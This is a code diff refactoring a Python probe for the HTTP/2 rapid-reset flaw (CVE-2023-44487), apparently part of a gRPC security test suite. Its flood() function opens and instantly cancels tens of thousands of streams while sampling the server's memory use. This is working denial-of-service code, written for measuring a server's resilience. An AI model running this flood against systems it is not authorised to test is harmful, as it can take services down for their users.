@@ -1,4 +1,5 @@
-"""An HTTP/2 rapid-reset (CVE-2023-44487) probe, built on the `h2` library.
+"""An HTTP/2 rapid-reset (CVE-2023-44487) probe, built on the `h2` library (through
+h2probe.py, which the other gRPC CVE probes share).
 
 On one connection it opens streams (HEADERS of a gRPC call) and cancels each at once
 (RST_STREAM), in waves, as fast as the socket takes them, discarding whatever the
@@ -8,74 +9,21 @@ before / peak / after. Usable as a program for measurements:
     python rapid_reset.py HOST:PORT PID [--waves 4] [--streams 50000]
 """
 
-import select
-import socket
-import threading
 import time
 
-import h2.config
-import h2.connection
 import h2.errors
 
+from h2probe import RssSampler, drain, grpc_request_headers, open_h2
 from support import process_stats
 
 PATH = "/arrow.flight.protocol.FlightService/ListActions"
 
 
-class RssSampler:
-    """Samples a process's RSS every `interval` seconds while running."""
-
-    def __init__(self, pid, interval=0.05):
-        self.pid = pid
-        self.interval = interval
-        self.peak = 0
-        self._stop = threading.Event()
-        self._thread = threading.Thread(target=self._run, daemon=True)
-
-    def _run(self):
-        while not self._stop.is_set():
-            try:
-                self.peak = max(self.peak, process_stats(self.pid)["rss"])
-            except (FileNotFoundError, ProcessLookupError):
-                return
-            self._stop.wait(self.interval)
-
-    def __enter__(self):
-        self._thread.start()
-        return self
-
-    def __exit__(self, *exc):
-        self._stop.set()
-        self._thread.join()
-
-
-def _drain(sock):
-    """Reads and discards what the server sent; False once it closed the connection."""
-    while True:
-        readable, _, _ = select.select([sock], [], [], 0)
-        if not readable:
-            return True
-        try:
-            data = sock.recv(1 << 20)
-        except (ConnectionResetError, BlockingIOError):
-            return False
-        if not data:
-            return False
-
-
 def flood(host, port, waves=1, streams=50_000, chunk=500):
     """Runs the flood; returns how many HEADERS+RST_STREAM pairs went out and whether
     the server closed the connection (a GOAWAY or reset counts as closed)."""
-    sock = socket.create_connection((host, port), timeout=30)
-    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
-    conn = h2.connection.H2Connection(config=config)
-    conn.initiate_connection()
-    sock.sendall(conn.data_to_send())
-    headers = [
-        (":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", f"{host}:{port}"),
-        ("content-type", "application/grpc"), ("te", "trailers"),
-    ]
+    sock, conn = open_h2(host, port)
+    headers = grpc_request_headers(f"{host}:{port}", PATH)
     sent = 0
     closed = False
     try:
@@ -87,10 +35,10 @@ def flood(host, port, waves=1, streams=50_000, chunk=500):
                     conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
                     sent += 1
                 sock.sendall(conn.data_to_send())
-                if not _drain(sock):
+                if not drain(sock):
                     closed = True
                     return sent, closed
-    except (BrokenPipeError, ConnectionResetError, socket.timeout):
+    except (BrokenPipeError, ConnectionResetError, TimeoutError):
         closed = True
     finally:
         sock.close()
